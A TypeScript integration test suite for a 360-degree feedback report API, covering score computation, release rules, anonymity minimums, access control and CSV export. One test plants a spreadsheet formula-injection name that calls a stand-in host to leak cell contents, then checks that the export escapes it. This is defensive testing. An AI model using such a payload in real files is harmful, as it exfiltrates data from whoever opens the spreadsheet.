import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  PROFILE_PRINT_SCOPES,
  formatShortDate,
  zLatestProfileReportSummary,
  zProfileReportInfo,
  type ProfileParticipant,
  type ProfileReportData,
} from '@portal/core';
import { tokenFor, withFeaturesOff } from '../../../test/factories';
import { issuePrintKey } from '../../documents/documents';
import { createTestApp, type TestApp } from '../../../test/test-app';
import { testEngines } from '../../../test/test-database';
import {
  answerAll,
  call,
  createPerson,
  type TestPerson,
  coachGroup,
} from '../profile-participant/profile-test-support';
import { releaseDueReports } from './report-release.service';
import { TOO_CLOSE } from './report.service';

const base = '/api/profilereport';

describe.each(testEngines())('360 reports on %s', (engine) => {
  let t: TestApp;
  let pat: TestPerson;
  let stranger: TestPerson;
  let coach: string;
  let teamId: string;
  let developer: string;
  let participant: ProfileParticipant;
  let firstReport: { id: string; reportCode: string; isReleased: boolean };
  const peerCodes: string[] = [];

  const invite = async (n: number, offset: number) => {
    const res = await call(t, 'POST', '/api/profiledescriberfeedback/upsertBatch', pat.token, {
      participantId: participant.id,
      invites: Array.from({ length: n }, (_, i) => ({
        firstName: `Peer${offset + i}`,
        email: `peer${offset + i}@report.example`,
        describerRelationship: 'peer',
      })),
    });
    expect(res.statusCode).toBe(200);
    const rows = await t.database.db
      .selectFrom('profile_describer')
      .select('survey_code')
      .where(
        'email',
        'in',
        Array.from({ length: n }, (_, i) => `peer${offset + i}@report.example`),
      )
      .execute();
    return rows.map((r) => r.survey_code);
  };

  beforeAll(async () => {
    t = await createTestApp({ engine, demo: true });
    pat = await createPerson(t, 'pat@report.example');
    stranger = await createPerson(t, 'stranger@report.example');
    const coachPerson = await createPerson(t, 'coach@report.example', ['trainer', 'profileViewer']);
    teamId = await coachGroup(t, coachPerson, [pat, stranger]);
    coach = coachPerson.token;
    developer = tokenFor(t.app, { brand: 'profile', claims: ['developer'] });
    participant = (await call(t, 'POST', '/api/profileparticipant/start', pat.token, {})).json();
    await answerAll(t, participant.selfSurveyCode!, 4);
    peerCodes.push(...(await invite(3, 0)));
    // Three peers answer 2, 3 and 5 on every item: each scale's median is 3.
    for (const [i, code] of peerCodes.entries()) await answerAll(t, code, [2, 3, 5][i]!);
  });
  afterAll(() => t.close());

  it('computes the hand-worked report and releases it by the rule', async () => {
    const res = await call(t, 'POST', `${base}/createReport`, pat.token, {
      profileParticipantId: participant.id,
      label: 'First',
    });
    expect(res.statusCode).toBe(200);
    firstReport = res.json();
    expect(firstReport.isReleased).toBe(true);
    const data = (
      await call(t, 'GET', `${base}/getProfileReportData/${firstReport.reportCode}`, pat.token)
    ).json<ProfileReportData>();
    expect(data.formattedLabel).toBe(`${formatShortDate(new Date())} - First (3)`);
    expect(data.scales).toHaveLength(12);
    expect(data.groups).toEqual([{ key: 'peer', count: 3, displayName: null }]);
    // Three peers are a group of their own: nothing merged, nothing counted only in the whole.
    expect(data.merging).toEqual({ together: [], fewInEach: true, wholeOnly: [], minGroupSize: 3 });
    const lis = data.scales.find((s) => s.code === 'LIS')!;
    expect(lis).toMatchObject({
      medianScore: 3,
      selfScore: 4,
      targetLow: 3.8,
      props: { isConstraint: true, margin: -0.8 },
    });
    // Largest gaps below the low edge (3.8): LIS, FOL, COL; strengths: PAC (0.6), CTL (0.2).
    expect(data.topConstraints.map((s) => s.code)).toEqual(['LIS', 'FOL', 'COL']);
    expect(data.strengths.map((s) => s.code)).toEqual(['PAC', 'CTL']);
    expect(data.strengths[0]!.strengths.length).toBeGreaterThan(0);
    expect(data.abilities).toEqual({
      delete: false,
      exclude: false,
      insights: false,
      release: false,
    });
  });

  it('answers the plan builder summary, and 204 without a released report', async () => {
    const res = await call(
      t,
      'GET',
      `${base}/GetLatestProfileReportData/${pat.accountId}`,
      pat.token,
    );
    expect(zLatestProfileReportSummary.safeParse(res.json()).success).toBe(true);
    const none = await call(
      t,
      'GET',
      `${base}/GetLatestProfileReportData/${stranger.accountId}`,
      stranger.token,
    );
    expect(none.statusCode).toBe(204);
    const info = (
      await call(t, 'GET', `${base}/getAllReportInfoByUserAccountId/${pat.accountId}`, pat.token)
    ).json();
    expect(info.every((i: unknown) => zProfileReportInfo.safeParse(i).success)).toBe(true);
  });

  it('refuses a report that would isolate one more describer', async () => {
    peerCodes.push(...(await invite(1, 3)));
    await answerAll(t, peerCodes[3]!, 1);
    const res = await call(t, 'POST', `${base}/createReport`, pat.token, {
      profileParticipantId: participant.id,
    });
    expect(res.statusCode).toBe(409);
    expect(res.json()).toMatchObject({
      code: TOO_CLOSE,
      message: expect.stringContaining('fewer than 3 people'),
    });
    // Choosing the old three plus... nothing new is allowed (the same set).
    const same = await call(t, 'POST', `${base}/createReport`, pat.token, {
      profileParticipantId: participant.id,
      describerIds: (
        await t.database.db
          .selectFrom('profile_report')
          .select('describer_ids')
          .where('id', '=', firstReport.id)
          .executeTakeFirstOrThrow()
      ).describer_ids,
    });
    expect(same.statusCode).toBe(200);
  });

  /** A new report of the participant that its rule keeps unreleased (10 describers needed). */
  const unreleasedReport = async () => {
    await t.database.db
      .updateTable('profile_config')
      .set({ min_describers: 10 })
      .where('app_name', '=', 'profile')
      .execute();
    const res = await call(t, 'POST', `${base}/createReport`, coach, {
      profileParticipantId: participant.id,
    });
    return res.json<{ id: string; reportCode: string; isReleased: boolean }>();
  };

  it('keeps an unreleased report from its participant until the release job', async () => {
    const more = await invite(2, 4);
    for (const code of more) await answerAll(t, code, 3);
    const created = await unreleasedReport();
    expect(created.isReleased).toBe(false);
    expect(
      (await call(t, 'GET', `${base}/getProfileReportData/${created.reportCode}`, pat.token))
        .statusCode,
    ).toBe(404);
    expect(
      (await call(t, 'GET', `${base}/getProfileReportData/${created.reportCode}`, coach))
        .statusCode,
    ).toBe(200);
    await t.database.db
      .updateTable('profile_config')
      .set({ min_describers: 3 })
      .where('app_name', '=', 'profile')
      .execute();
    // Where the brand has reportAutoRelease off, neither the job nor the call releases it.
    await withFeaturesOff(t.app, 'profile', ['reportAutoRelease'], async () => {
      expect(await releaseDueReports(t.database.db, 'profile', new Date())).toEqual([]);
      const byHand = await call(t, 'GET', `${base}/ProcessAutoReleaseReports`, developer);
      expect(byHand.statusCode).toBe(403);
    });
    expect(
      (await call(t, 'GET', `${base}/getProfileReportData/${created.reportCode}`, pat.token))
        .statusCode,
    ).toBe(404);
    expect((await call(t, 'GET', `${base}/ProcessAutoReleaseReports`, developer)).json()).toEqual({
      released: 1,
    });
    expect(
      (await call(t, 'GET', `${base}/getProfileReportData/${created.reportCode}`, pat.token))
        .statusCode,
    ).toBe(200);
    expect((await call(t, 'GET', `${base}/ProcessAutoReleaseReports`, pat.token)).statusCode).toBe(
      403,
    );
  });

  it('releases a report by hand for its coaches, where the brand has no automatic release', async () => {
    await withFeaturesOff(t.app, 'profile', ['reportAutoRelease'], async () => {
      const created = await unreleasedReport();
      const read = (token: string) =>
        call(t, 'GET', `${base}/getProfileReportData/${created.reportCode}`, token);
      expect((await read(pat.token)).statusCode).toBe(404);
      expect((await read(coach)).json().abilities.release).toBe(true);
      const release = (token: string, id = created.id) =>
        call(t, 'POST', `${base}/ReleaseProfileReport/${id}`, token);
      // The participant, a stranger, an unknown or malformed id: nothing is released.
      expect((await release(pat.token)).statusCode).toBe(403);
      expect((await release(stranger.token)).statusCode).toBe(403);
      expect((await release(coach, '00000000-0000-4000-8000-000000000009')).statusCode).toBe(404);
      expect((await release(coach, 'abc')).statusCode).toBe(400);
      expect((await read(pat.token)).statusCode).toBe(404);

      expect((await release(coach)).json()).toEqual({ released: true });
      expect((await read(pat.token)).json().isReleased).toBe(true);
      expect((await read(coach)).json().abilities.release).toBe(false);
      expect((await release(coach)).json()).toEqual({ released: false });
    });
  });

  it('opens no report by guessing: strangers, anonymous callers and bad ids', async () => {
    const url = `${base}/getProfileReportData/${firstReport.reportCode}`;
    expect((await call(t, 'GET', url, stranger.token)).statusCode).toBe(404);
    expect((await call(t, 'GET', url)).statusCode).toBe(401);
    const noViewer = tokenFor(t.app, { brand: 'profile', claims: ['trainer'] });
    expect((await call(t, 'GET', url, noViewer)).statusCode).toBe(404);
    expect(
      (await call(t, 'GET', `${base}/getProfileReportData/${firstReport.id}`, coach)).statusCode,
    ).toBe(200);
    expect((await call(t, 'GET', `${base}/getProfileReportData/abc`, coach)).statusCode).toBe(400);
    expect(
      (await call(t, 'GET', `${base}/getAllByUserAccountId/${pat.accountId}`, stranger.token))
        .statusCode,
    ).toBe(403);
    expect(
      (await call(t, 'GET', `${base}/getProfileReportPrintData/${firstReport.reportCode}`))
        .statusCode,
    ).toBe(403);
  });

  it('hides a team report below the minimum and refuses non-coaches', async () => {
    const url = `${base}/getProfileTeamReportData/${teamId}`;
    const team = (await call(t, 'GET', url, coach)).json();
    expect(team).toMatchObject({
      memberCount: 2,
      membersWithReport: 1,
      isHidden: true,
      scales: [],
    });
    expect((await call(t, 'GET', url, pat.token)).statusCode).toBe(403);
  });

  it('exports CSV by the quoting rules, and 204 when there is nothing', async () => {
    const { id: configId } = await t.database.db
      .selectFrom('profile_config')
      .select('id')
      .where('app_name', '=', 'profile')
      .executeTakeFirstOrThrow();
    const today = new Date().toISOString().slice(0, 10);
    // A person named like a formula: the spreadsheet must show the name, not run it.
    const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';
    await t.database.db
      .updateTable('user_account')
      .set({ first_name: formula, last_name: '@SUM(1)' })
      .where('user_id', '=', pat.userId)
      .execute();
    const res = await call(
      t,
      'GET',
      `${base}/ExportProfileData/${configId}/${today}/${today}`,
      coach,
    );
    expect(res.statusCode).toBe(200);
    const { fileName, body } = res.json();
    expect(fileName).toMatch(/^Standard 360 .*\.csv$/);
    expect(body.split('\r\n')[0]).toMatch(
      /^"First name","Last name","Report","Released","Describers","Listening"/,
    );
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Open"")","'@SUM(1)"`);
    const empty = await call(
      t,
      'GET',
      `${base}/ExportProfileData/${configId}/2001-01-01/2001-01-02`,
      coach,
    );
    expect(empty.statusCode).toBe(204);
    expect(
      (await call(t, 'GET', `${base}/ExportProfileData/${configId}/${today}/${today}`, pat.token))
        .statusCode,
    ).toBe(403);
  });

  it('lets the coach exclude and delete a report, not the participant', async () => {
    const excluded = await call(t, 'POST', `${base}/UpdateIsExcludedBatch`, coach, {
      reportIds: [firstReport.id],
      isExcluded: true,
    });
    expect(excluded.json()).toEqual({ updated: 1 });
    expect(
      (await call(t, 'DELETE', `${base}/DeleteProfileReport/${firstReport.id}`, pat.token))
        .statusCode,
    ).toBe(403);
    expect(
      (await call(t, 'DELETE', `${base}/DeleteProfileReport/${firstReport.id}`, coach)).json(),
    ).toEqual({ deleted: true });
    expect(
      (await call(t, 'GET', `${base}/getProfileReportData/${firstReport.id}`, coach)).statusCode,
    ).toBe(404);
  });

  it('shows the demo participant their seeded report with anonymous groups', async () => {
    const demo = await t.database.db
      .selectFrom('user_account as a')
      .innerJoin('identity_user as u', 'u.id', 'a.user_id')
      .select(['a.id', 'u.id as userId'])
      .where('u.email', '=', 'participant@demo.example')
      .where('a.app_name', '=', 'profile')
      .executeTakeFirstOrThrow();
    const token = tokenFor(t.app, {
      brand: 'profile',
      userId: demo.userId,
      email: 'participant@demo.example',
    });
    const [report] = (
      await call(t, 'GET', `${base}/getAllByUserAccountId/${demo.id}`, token)
    ).json();
    const data = (
      await call(t, 'GET', `${base}/getProfileReportData/${report.reportCode}`, token)
    ).json<ProfileReportData>();
    // Manager (1) is merged with the peers into others; the direct reports (3) stand alone.
    expect(data.groups.map((g) => [g.key, g.count]).sort()).toEqual([
      ['directReport', 3],
      ['others', 4],
    ]);
    expect(data.formattedLabel).toMatch(/ - Demo \(7\)$/);
  });

  it('opens print data with a print key of that report only', async () => {
    const reports = await t.database.db
      .selectFrom('profile_report')
      .select(['report_code'])
      .where('app_name', '=', 'profile')
      .execute();
    const [one, other] = reports.map((r) => r.report_code);
    const key = issuePrintKey(t.app, {
      brand: 'profile',
      scope: PROFILE_PRINT_SCOPES.report,
      subjectId: one!,
    });
    const url = (code: string) => `${base}/getProfileReportPrintData/${code}`;
    const headers = { 'app-name': 'profile', 'print-key': key };
    expect((await t.app.inject({ url: url(one!), headers })).statusCode).toBe(200);
    expect((await t.app.inject({ url: url(other!), headers })).statusCode).toBe(403);
  });
});
